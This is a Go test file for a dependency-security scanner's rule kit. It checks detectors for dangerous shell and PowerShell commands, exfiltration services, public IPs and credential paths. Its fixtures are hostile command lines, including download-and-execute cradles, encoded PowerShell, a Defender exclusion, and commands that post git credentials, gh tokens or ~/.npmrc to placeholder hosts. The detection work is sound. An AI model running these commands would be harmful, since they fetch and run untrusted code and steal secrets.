package rulekit

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/depfence/depfence/internal/jsast"
)

func TestPublicIP(t *testing.T) {
	for host, want := range map[string]bool{
		"8.8.8.8": true, "216.250.251.187": true, "203.0.113.7": true, // documentation blocks stand for servers
		"2a00:1450:4001:81c::200e": true, "[2606:4700::1111]": true, "2001:db8::1": true,
		"::ffff:8.8.8.8": true, "::ffff:10.0.0.1": false,
		"127.0.0.1": false, "10.1.2.3": false, "192.168.1.1": false, "169.254.169.254": false, "0.0.0.0": false,
		"100.64.0.1": false, "198.18.0.1": false, "240.0.0.1": false, "255.255.255.255": false, "224.0.0.251": false,
		"::1": false, "::2": false, "fe80::1": false, "fd00::1": false, "ff02::1": false,
		"1080::8:800:200c:417a": false, "3ffe:2a00:100:7031::1": false, "100::1": false, "2001:db8::": false,
		"fe80::1%eth0": false, "example.com": false, "": false, "1.2.3": false,
	} {
		if got := PublicIP(host); got != want {
			t.Errorf("PublicIP(%q) = %v, want %v", host, got, want)
		}
	}
}

func TestPowerShellDanger(t *testing.T) {
	for script, want := range map[string]bool{
		"iex (New-Object Net.WebClient).DownloadString('https://dl.example.invalid/a.ps1')":       true,
		"Invoke-WebRequest https://dl.example.invalid/a.ps1 -UseBasicParsing | Invoke-Expression": true,
		"$s = irm https://dl.example.invalid/i.ps1 | iex":                                         true,
		"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA":                       true,
		"certutil -urlcache -split -f http://dl.example.invalid/s.exe s.exe":                      true,
		// saved to a file, then started lines later; saved and unpacked
		"(New-Object Net.WebClient).DownloadFile($src, $dst)\nif (Test-Path $dst) {\n  Start-Process -FilePath $dst -WindowStyle Hidden\n}": true,
		"Invoke-WebRequest -Uri $u -OutFile $zip\nExpand-Archive $zip -DestinationPath $dir":                                                false,
		// a browser's installer downloaded and started in view
		"$wc.DownloadFile($url, $msi)\nStart-Process msiexec.exe -ArgumentList \"/i $msi /quiet\" -Wait": false,
		// Defender told to skip a directory
		"Add-MpPreference -ExclusionPath $env:APPDATA\\svc": true,
		// a build script: downloads a file, runs nothing it fetched
		"Invoke-WebRequest -Uri $url -OutFile node.zip\nExpand-Archive node.zip -DestinationPath out": false,
		"$v = Invoke-Expression 'git describe --tags'":                                                false,
		"Write-Host 'done'": false,
	} {
		if got := PowerShellDanger(script) != ""; got != want {
			t.Errorf("PowerShellDanger(%q) = %v, want %v", script, got, want)
		}
	}
}

func TestShellDanger(t *testing.T) {
	for cmd, want := range map[string]bool{
		"curl -fsSL https://x.invalid/i.sh | sh": true,
		// the shell or an interpreter by its path
		"curl -fsS https://x.invalid/a | /bin/bash":           true,
		"curl -s https://x.invalid/a | /usr/local/bin/node -": true,
		"curl -s https://x.invalid/a | /usr/bin/jq .name":     false,
		// a query's & is no separator; a backgrounded download is
		`curl -fsm 20 "https://x.invalid/hb?u=a&h=$(hostname)" | /bin/sh`: true,
		"curl -s https://x.invalid/a & sh -c true":                        false,
		// a command substitution's pipes inside the URL
		`(curl -fsS "https://x.invalid/c/$(git config user.email | base64 | tr -d =)" | sh) &`: true,
		`curl -s "https://x.invalid/v?u=$(whoami | tr a-z A-Z)" -o /dev/null`:                  false,
		`certutil -decode "%TEMP%\\d.b64" "%TEMP%\\r.exe"`:                                     true,
		"certutil -hashfile setup.exe SHA256":                                                  false,
		// python and cmake running what they download
		"import urllib.request, subprocess ; subprocess.run(['sh','-c',urllib.request.urlopen('http://x.invalid/x').read().decode()])": true,
		"file(DOWNLOAD http://x.invalid/x ${B}/x) ; execute_process(COMMAND sh ${B}/x)":                                                true,
		"data = urllib.request.urlopen('https://x.invalid/v.json').read() ; print(json.loads(data)['version'])":                        false,
		// saved to a file, then run
		"curl -s -o /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a":             true,
		"wget -q -O /tmp/.p https://x.invalid/p; /tmp/.p":                                true,
		`iwr https://x.invalid/a.exe -OutFile $env:TEMP\a.exe; & $env:TEMP\a.exe`:        true,
		"curl -fsSL -o node.tar.gz https://x.invalid/node.tar.gz && tar xzf node.tar.gz": false,
		`iwr https://x.invalid/a.zip -OutFile a.zip; Expand-Archive a.zip`:               false,
		"curl -s https://x.invalid/p.js | node":                                          true,
		"wget -qO- https://x.invalid/p.py | python3 -":                                   true,
		"curl -s https://x.invalid/p.pl | perl":                                          true,
		`node -e "$(curl -s https://x.invalid/p.js)"`:                                    true,
		// run when the download is there
		"curl -fsSL -o /tmp/x https://x.invalid/x ; if [ -s /tmp/x ]; then ; chmod 755 /tmp/x":          true,
		"curl -fsSL -o n.tgz https://x.invalid/n.tgz ; if [ -s n.tgz ]; then ; tar xzf n.tgz -C vendor": false,
		// an inline script that fetches code and runs it
		`node -e "require('https').get('https://x.invalid/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"`: true,
		`node -e "fetch('https://x.invalid/p').then(r=>r.text()).then(t=>new Function(t)())"`:                              true,
		`node -e "require('https').get('https://x.invalid/v',r=>r.pipe(process.stdout))"`:                                  false,
		`python3 -c "$(wget -qO- https://x.invalid/p.py)"`:                                                                 true,
		`python3 -c "import base64;exec(base64.b64decode('aWQ='))"`:                                                        true,
		`python -c 'import zlib,base64;exec(zlib.decompress(b))'`:                                                          true,
		"./config.sh --url https://github.com/o/r --token AAAA":                                                            true,
		"curl -s https://x.invalid/p.js | node --input-type=module":                                                        true,
		"curl -s https://x.invalid/data.json | node scripts/check.js":                                                      false, // data for a script of the package
		"curl -s -o tool.tgz https://x.invalid/tool.tgz":                                                                   false,
		"node -e \"console.log(require('./package.json').version)\"":                                                       false,
		`python3 -c "import sys; print(sys.version)"`:                                                                      false,
		"git log | node scripts/changelog.js":                                                                              false,
		"regsvr32 /s /n /u /i:http://x.invalid/f.sct scrobj.dll":                                                           true,
		"msiexec /q /i https://x.invalid/setup.msi":                                                                        true,
		"regsvr32 /s build\\addon.dll":                                                                                     false,
		"./config.sh --help":                                                                                               false,
		"curl --version && node --version":                                                                                 false,
	} {
		if got := ShellDanger(cmd) != ""; got != want {
			t.Errorf("ShellDanger(%q) = %q, want %v", cmd, ShellDanger(cmd), want)
		}
	}
}

func TestSpawnCommand(t *testing.T) {
	arg := func(v string) jsast.Arg { return jsast.Arg{Value: v, Known: true} }
	list := func(l ...string) jsast.Arg { return jsast.Arg{List: l} }
	for _, tc := range []struct {
		c    jsast.Call
		want string
	}{
		{jsast.Call{Callee: "child_process.spawn", Args: []jsast.Arg{arg("powershell.exe"), list("-NoP", "-EncodedCommand", "SQBFAFgA")}}, "powershell.exe -NoP -EncodedCommand SQBFAFgA"},
		{jsast.Call{Callee: "child_process.execFileSync", Args: []jsast.Arg{arg("sh"), list("-c", jsast.Hole)}}, "sh -c " + jsast.Hole},
		// exec's second argument is its options, not an argument list
		{jsast.Call{Callee: "child_process.exec", Args: []jsast.Arg{arg("git status"), list("x")}}, "git status"},
		{jsast.Call{Callee: "Bun.spawn", Args: []jsast.Arg{list("sh", "-c", "id")}}, "sh -c id"},
	} {
		if got := SpawnCommand(tc.c); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.c.Callee, got, tc.want)
		}
	}
}

func TestExfilServiceByPath(t *testing.T) {
	for s, want := range map[string]string{
		"https://api.telegram.org/bot123/sendMessage":                                                              "api.telegram.org",
		"https://tg-relay.example.invalid/bot7001234567:AAFakeFakeFakeFakeFakeFakeFakeFake1/sendMessage?chat_id=1": "api.telegram.org",
		"https://relay.example.invalid/api/webhooks/112233445566778899/" + strings.Repeat("aB3-", 17):              "discord.com/api/webhooks",
		"https://example.invalid/docs/bot/sendMessage":                                                             "",
		"https://example.invalid/api/webhooks/settings":                                                            "",
		// a gateway's origin and an allow-list pattern are no destinations
		"https://ipfs.io":               "",
		"'https://ipfs.io/'":            "",
		"https://ipfs.io/upload?d=x":    "ipfs.io",
		"https://*.ngrok-free.app":      "",
		"https://a1b2.ngrok-free.app/x": "ngrok-free.app",
	} {
		if got := ExfilService(s); got != want {
			t.Errorf("ExfilService(%q) = %q, want %q", s, got, want)
		}
	}
}

// encodePS is PowerShell's -EncodedCommand form of a script.
func encodePS(script string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestShellDangerEncodedPowerShell: an encoded script counts by what it
// does once decoded; one that does not decode stays suspect.
func TestShellDangerEncodedPowerShell(t *testing.T) {
	for cmd, want := range map[string]bool{
		"powershell.exe -NoProfile -EncodedCommand " + encodePS("iex (iwr https://x.invalid/p.ps1)"):                           true,
		"powershell.exe -NoProfile -EncodedCommand " + encodePS("Add-Type -TypeDefinition $src; [Cred]::Read('dotenvx')"):      false,
		"powershell.exe -NoProfile -EncodedCommand " + encodePS("Write-Output 1") + "; curl -fsSL https://x.invalid/i.sh | sh": true,
		"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkACkA=====X":                       true,
	} {
		if got := ShellDanger(cmd) != ""; got != want {
			t.Errorf("ShellDanger(%.80q) = %v, want %v", cmd, got, want)
		}
	}
}

// TestCommandHosts: hosts in URLs and bare host/path words, not paths.
func TestCommandHosts(t *testing.T) {
	got := commandHosts(`fix: [curl -sfS https://dotenvx.sh | sh] (.git/hooks/precommit) irm bun.sh/install.ps1 ~/.config/x /dev/null`)
	if strings.Join(got, " ") != "dotenvx.sh bun.sh" {
		t.Errorf("hosts %q", got)
	}
}

// TestSensitivePathAzure: the Azure CLI's directory, not an escaped dot in
// a regular expression's source (dev\.azure\.com).
func TestSensitivePathAzure(t *testing.T) {
	for s, want := range map[string]int{
		`C:\Users\me\.azure\accessTokens.json`:  2,
		"/home/me/.azure/msal_token_cache.json": 2,
		`(dev\.azure\.com|visualstudio\.com)`:   0,
	} {
		if got, _ := SensitivePath(s); got != want {
			t.Errorf("SensitivePath(%q) = %d, want %d", s, got, want)
		}
	}
}

func TestSensitivePathAIAssistants(t *testing.T) {
	for s, want := range map[string]int{
		"/home/me/.claude/.credentials.json":         2,
		`C:\Users\me\.codex\auth.json`:               2,
		"~/.gemini/oauth_creds.json":                 2,
		"/Users/me/.config/github-copilot/apps.json": 2,
		"/home/me/.claude/settings.json":             0, // settings, not a login
		"docs/codex/auth.md":                         0,
	} {
		if got, _ := SensitivePath(s); got != want {
			t.Errorf("SensitivePath(%q) = %d, want %d", s, got, want)
		}
	}
}

// TestShellDangerLongEncodedScript: a script longer than the command
// regexp's window is decoded whole: harmless, or padded to push its
// download out of sight.
func TestShellDangerLongEncodedScript(t *testing.T) {
	pad := strings.Repeat("# credential store helper\n", 400)
	if m := ShellDanger("powershell.exe -NoProfile -EncodedCommand " + encodePS(pad+"[Cred]::Read('x')")); m != "" {
		t.Errorf("harmless long script: %q", m)
	}
	if m := ShellDanger("powershell.exe -NoProfile -EncodedCommand " + encodePS(pad+"iex (iwr https://x.invalid/p)")); m == "" {
		t.Error("padded download not found")
	}
}

func TestShellSendsGitCredentials(t *testing.T) {
	for cmd, want := range map[string]bool{
		`r=$( { git credential fill; gh auth token; } | base64) ; curl -s -d "$r" https://x.example.invalid/`: true,
		`cat ~/.git-credentials ; wget --post-file=/tmp/c https://x.example.invalid/`:                         true,
		`gh auth token > /dev/null && curl -fsSL https://x.example.invalid/install.sh -o i.sh`:                false,
		`git credential fill < req ; echo done`:                                                               false,
	} {
		if got := ShellSendsSecrets(cmd) != ""; got != want {
			t.Errorf("ShellSendsSecrets(%q) = %v, want %v", cmd, got, want)
		}
	}
}

func TestJoinScript(t *testing.T) {
	got := JoinScript("#!/usr/bin/env bash\nT=$(cat ~/.npmrc)\ncurl -d \"$T\" https://c.example.invalid/")
	if want := `T=$(cat ~/.npmrc) ; curl -d "$T" https://c.example.invalid/`; got != want {
		t.Errorf("JoinScript = %q, want %q", got, want)
	}
	if ShellSendsSecrets(JoinScript("#!/usr/bin/env bash\nls | curl -T - https://up.example.invalid/")) != "" {
		t.Error("the interpreter line read as an environment dump")
	}
}

func TestLocalHost(t *testing.T) {
	for host, want := range map[string]bool{
		"localhost": true, "127.0.0.1": true, "[::1]": true, "169.254.169.254": true, "10.1.2.3": true,
		"metadata.google.internal": true, "db.corp.internal": true,
		"c.example.invalid": false, "internal.example.com": false, "203.0.113.9": false,
	} {
		if got := LocalHost(host); got != want {
			t.Errorf("LocalHost(%q) = %v, want %v", host, got, want)
		}
	}
}

// TestExpandPSVars covers a PowerShell script whose encoded command is
// kept in a variable: the expanded script shows it to ShellDanger.
func TestExpandPSVars(t *testing.T) {
	enc := encodePS("iex (iwr https://x.invalid/p.ps1)")
	script := "$ErrorActionPreference = 'SilentlyContinue'\n$policy = '" + enc + "'\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $policy\n"
	if ShellDanger(script) != "" {
		t.Fatalf("ShellDanger found the command before expansion: the test shows nothing")
	}
	got := ExpandPSVars(script)
	if !strings.Contains(got, "-EncodedCommand "+enc) || ShellDanger(got) == "" {
		t.Errorf("ExpandPSVars = %q, ShellDanger %q", got, ShellDanger(got))
	}
	// a variable set at run time stays a reference
	if got := ExpandPSVars("$p = Get-Content a.txt\nrun $p\n"); got != "$p = Get-Content a.txt\nrun $p\n" {
		t.Errorf("ExpandPSVars of a run-time value = %q", got)
	}
}

// TestExpandShellVars covers a shell script whose download command is
// kept in a variable: the expanded script shows it to ShellDanger.
func TestExpandShellVars(t *testing.T) {
	script := "#!/bin/sh\nDL=\"curl -fsSL -o\"\nCACHE=\"${HOME}/.cache/x\"\n$DL \"$CACHE/h\" \"http://198.51.100.23/dl/h\" 2>/dev/null\nchmod 755 \"$CACHE/h\"\n"
	if ShellDanger(JoinScript(script)) != "" {
		t.Fatalf("ShellDanger found the download before expansion: the test shows nothing")
	}
	got := ExpandShellVars(script)
	if !strings.Contains(got, "curl -fsSL -o \"$CACHE/h\"") || ShellDanger(JoinScript(got)) == "" {
		t.Errorf("ExpandShellVars = %q, ShellDanger %q", got, ShellDanger(JoinScript(got)))
	}
	// a variable set from a command stays a reference
	if got := ExpandShellVars("V=$(uname -m)\necho $V\n"); got != "V=$(uname -m)\necho $V\n" {
		t.Errorf("ExpandShellVars of a command's output = %q", got)
	}
}
